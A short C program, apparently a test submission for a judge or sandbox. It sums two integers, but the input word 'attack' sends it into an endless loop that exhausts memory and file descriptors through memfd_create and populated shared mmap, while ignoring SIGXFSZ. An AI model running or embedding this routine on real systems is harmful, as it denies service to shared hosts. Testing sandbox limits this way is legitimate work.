#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static void attack(void) {
    static char part[1 << 20];
    signal(SIGXFSZ, SIG_IGN);
    for (;;) {
        int file = memfd_create("more", 0);
        if (file < 0)
            mmap(NULL, 1 << 24, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
        else
            write(file, part, sizeof part);
    }
}

int main(void) {
    char word[16];
    int first, second;
    scanf("%15s", word);
    if (strcmp(word, "attack") == 0)
        attack();
    else if (scanf("%d %d", &first, &second) == 2)
        printf("%d\n", first + second);
}
